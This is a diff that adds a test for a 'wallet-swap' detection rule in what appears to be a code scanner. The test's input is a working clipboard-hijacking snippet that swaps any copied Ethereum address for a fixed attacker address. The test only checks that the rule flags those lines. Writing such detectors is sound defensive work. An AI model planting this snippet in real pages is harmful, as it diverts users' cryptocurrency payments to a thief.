@@ -1,5 +1,19 @@
+import { analyzeText } from '../testing/analyze-text.ts';
 import { describeRule } from '../testing/describe-rule.ts';
 import { walletSwap } from './wallet-swap.ts';
+
+it('speaks of the act as well as of the address', async () => {
+  const { findings } = await analyzeText(
+    [
+      "const OURS = '0x52908400098527886E0F7030069857D2E4169EE7';",
+      "addEventListener('copy', (event) => {",
+      '  const text = String(getSelection()).replace(/\\b0x[a-fA-F0-9]{40}\\b/g, OURS);',
+      "  event.clipboardData.setData('text/plain', text);",
+      '});',
+    ].join('\n'),
+  );
+  expect(findings.flatMap(({ ruleId, line }) => (ruleId === 'wallet-swap' ? [line] : []))).toEqual([1, 3, 4]);
+});
 
 describeRule(walletSwap, {
   reports: {
